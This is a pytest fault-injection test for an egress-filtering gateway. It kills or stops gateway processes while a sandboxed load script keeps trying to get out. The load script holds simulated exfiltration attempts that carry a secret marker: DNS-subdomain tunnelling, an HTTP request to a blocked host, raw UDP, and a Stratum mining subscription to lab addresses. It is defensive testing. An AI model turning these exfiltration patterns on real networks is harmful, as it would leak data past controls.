"""Faults: each gateway component killed (or hung) while an agent in the sandbox keeps trying, judged on the
internet side: nothing may leak meanwhile (no payload byte to a destination the policy does not allow, no marker
the client sends anywhere: nothing forwarded uninspected). One lab per fault (a fault breaks it).

Recovery by itself is issue 10's: each row says what happens today, measured (allowed traffic flowing again in
the client's next iterations, with nobody's help), never assumed. The drop logger is a thread of the supervisor,
so it cannot be killed alone: it dies with the supervisor (the resolver's fault) and hangs with it (SIGSTOP).
"""

from __future__ import annotations

import json
import os
import pathlib
import signal
import subprocess
import sys
import time
from collections.abc import Callable

import pytest

from egress.lab.topology import server
from tests.security.capture import Crossed
from tests.security.harness import Attacker, SecurityLab, open_lab, report_fault
from tests.waiting import eventually, scaled

pytestmark = pytest.mark.security

MARKER = "egress-fault-secret-7f3a"
ALLOWED = {(server("allowed").v4, 80), (server("allowed").v4, 443), (server("ws").v4, 80)}
NAMESERVER = (server("ns").v4, 53)
ITERATIONS_AFTER = 4
"""Loop iterations the client must complete after the fault before the capture is judged."""

LOAD = r"""
import json, socket, sys, time
marker = sys.argv[1]
def dns(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1); s.sendto(q, ("10.203.1.1", 53)); r = s.recv(512)
    return "rcode%d" % (r[3] & 15)
def tcp(host, port, data, want):
    with socket.create_connection((host, port), timeout=1) as s:
        s.settimeout(1); s.sendall(data); got = s.recv(4096)
    return "ok" if want in got else "answer:%r" % got[:20]
def udp(host, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(data, (host, port))
    return "sent"
GET = b"GET / HTTP/1.1\r\nHost: allowed.lab\r\nConnection: close\r\n\r\n"
SUBSCRIBE = ('{"id":1,"method":"mining.subscribe","params":["%s"]}\n' % marker).encode()
BLOCKED = ("GET /%s HTTP/1.1\r\nHost: blocked.lab\r\n\r\n" % marker).encode()
tries = {
    "dns_allowed": lambda: dns("allowed.lab"),
    "http_allowed": lambda: tcp("198.18.10.1", 80, GET, b"200 OK"),
    "stratum": lambda: tcp("198.18.10.3", 3333, SUBSCRIBE, b"result"),
    "blocked_http": lambda: tcp("198.18.10.2", 80, BLOCKED, b"200 OK"),
    "udp_out": lambda: udp("198.18.10.2", 5353, marker.encode()),
    "dns_exfil": lambda: dns(marker + ".t.lab"),
}
for n in range(100000):
    start = time.time(); out = {}
    for name, try_ in tries.items():
        try:
            out[name] = try_()
        except Exception as e:
            out[name] = type(e).__name__
    print(json.dumps({"n": n, "start": start, "end": time.time(), **out}), flush=True)
"""


def _iterations(load: Attacker) -> list[dict[str, object]]:
    return [json.loads(line) for line in load.log().splitlines() if line.startswith("{")]


def _after(load: Attacker, moment: float, count: int) -> list[dict[str, object]]:
    def enough() -> list[dict[str, object]]:
        later = [it for it in _iterations(load) if float(str(it["start"])) > moment]
        assert len(later) >= count, f"{len(later)} iterations after the fault: {load.log()[-800:]}"
        return later

    return eventually(enough, timeout=60, interval=0.2)


def leaked_bytes(crossed: Crossed) -> int:
    """Payload bytes to anything but the allowed services and the resolver's upstream."""
    return sum(
        len(data)
        for (proto, dst, port), data in crossed.payload.items()
        if (dst, port) not in ALLOWED and not (proto in ("udp", "tcp") and (dst, port) == NAMESERVER)
    )


def _pids(lab: SecurityLab, needle: str) -> list[int]:
    """Processes in the lab's gateway namespace whose command line has ``needle`` (other labs share the pid space)."""
    done = subprocess.run(["ip", "netns", "pids", lab.lab.gateway_ns], capture_output=True, text=True, check=False)
    found = []
    for pid in map(int, done.stdout.split()):
        try:
            cmdline = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if needle in cmdline:
            found.append(pid)
    return found


def _recovery(load: Attacker, alive: bool) -> tuple[str, str]:
    """What came back by itself: the client's next `ITERATIONS_AFTER` iterations (from now) and whether the
    component runs again. ``yes``: every one got its allowed page and the component runs; ``partly``: some did."""
    later = _after(load, time.time(), ITERATIONS_AFTER)[:ITERATIONS_AFTER]
    ok = sum(it["http_allowed"] == "ok" for it in later)
    how = f"allowed page {ok}/{len(later)} after; component {'running' if alive else 'not running'}"
    if ok == len(later) and alive:
        return "yes", how
    return ("partly" if ok else "no"), how


def _play(
    component: str,
    inject: Callable[[SecurityLab], str],
    alive: Callable[[SecurityLab], bool],
    resume: Callable[[SecurityLab], None] | None = None,
) -> None:
    """Under load, inject the fault; judge the capture; measure recovery; report the row; assert no leak."""
    with open_lab() as lab:
        with lab.capture(f"fault-{component.split(maxsplit=1)[0]}") as capture:
            load = lab.attacker("load", [sys.executable, "-c", LOAD, MARKER], where="sandbox")
            eventually(lambda: any(it["http_allowed"] == "ok" for it in _iterations(load)), timeout=60, interval=0.2)
            what = inject(lab)
            _after(load, time.time(), ITERATIONS_AFTER)  # the agent keeps trying through the fault
            if resume is not None:
                resume(lab)
            recovered, how = _recovery(load, alive(lab))
            load.stop()
        crossed = capture.result
        assert crossed is not None
        leaked = leaked_bytes(crossed)
        marker = crossed.contains(MARKER.encode())
        survived = int(leaked == 0 and not marker)
        report_fault(component, 1, survived, leaked, recovered, f"{what}; {how}")
        assert leaked == 0, crossed.table()
        assert not marker, crossed.table()


def _state(pid: int) -> str:
    """The process state letter from /proc (``T``: stopped)."""
    try:
        return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return "?"


def _gateway_alive(lab: SecurityLab) -> bool:
    return lab.run.gateway is not None and lab.run.gateway.poll() is None


def _workers_alive(lab: SecurityLab) -> bool:
    return _gateway_alive(lab) and len(_pids(lab, "egress.gateway.worker")) == lab.run.workers


def test_a_proxy_worker_killed_under_load_leaks_nothing() -> None:
    def inject(lab: SecurityLab) -> str:
        [pid, *_] = _pids(lab, "egress.gateway.worker")
        os.kill(pid, signal.SIGKILL)
        assert lab.run.gateway is not None
        lab.run.gateway.wait(timeout=scaled(20))
        return f"SIGKILL worker; gateway locked down, exited {lab.run.gateway.returncode}"

    _play("proxy worker (SIGKILL)", inject, _workers_alive)


def test_the_supervisor_killed_under_load_leaks_nothing() -> None:
    def inject(lab: SecurityLab) -> str:
        assert lab.run.gateway is not None
        lab.run.gateway.send_signal(signal.SIGKILL)
        lab.run.gateway.wait(timeout=scaled(10))
        return f"SIGKILL supervisor (resolver, drop logger); workers left: {len(_pids(lab, 'egress.gateway.worker'))}"

    _play("resolver + drop logger (supervisor SIGKILL)", inject, _gateway_alive)


def test_the_supervisor_hung_under_load_leaks_nothing_and_resumes() -> None:
    def inject(lab: SecurityLab) -> str:
        assert lab.run.gateway is not None
        os.kill(lab.run.gateway.pid, signal.SIGSTOP)
        return "SIGSTOP supervisor (resolver, drop logger hang), SIGCONT after the load ran on"

    def resume(lab: SecurityLab) -> None:
        assert lab.run.gateway is not None
        os.kill(lab.run.gateway.pid, signal.SIGCONT)

    _play("resolver + drop logger (supervisor SIGSTOP)", inject, _gateway_alive, resume)


def test_a_proxy_worker_hung_under_load_leaks_nothing() -> None:
    def inject(lab: SecurityLab) -> str:
        [pid, *_] = _pids(lab, "egress.gateway.worker")
        os.kill(pid, signal.SIGSTOP)
        return "SIGSTOP one worker (never resumed)"

    def serving(lab: SecurityLab) -> bool:  # a stopped process still exists: ask whether it runs
        return _workers_alive(lab) and all(_state(pid) != "T" for pid in _pids(lab, "egress.gateway.worker"))

    _play("proxy worker (SIGSTOP)", inject, serving)


def test_redis_killed_under_load_leaks_nothing() -> None:
    def inject(lab: SecurityLab) -> str:
        [pid] = _pids(lab, "redis-server")
        os.kill(pid, signal.SIGKILL)
        return "SIGKILL redis-server (not restarted: records spool to disk)"

    _play("redis (SIGKILL)", inject, lambda lab: bool(_pids(lab, "redis-server")))
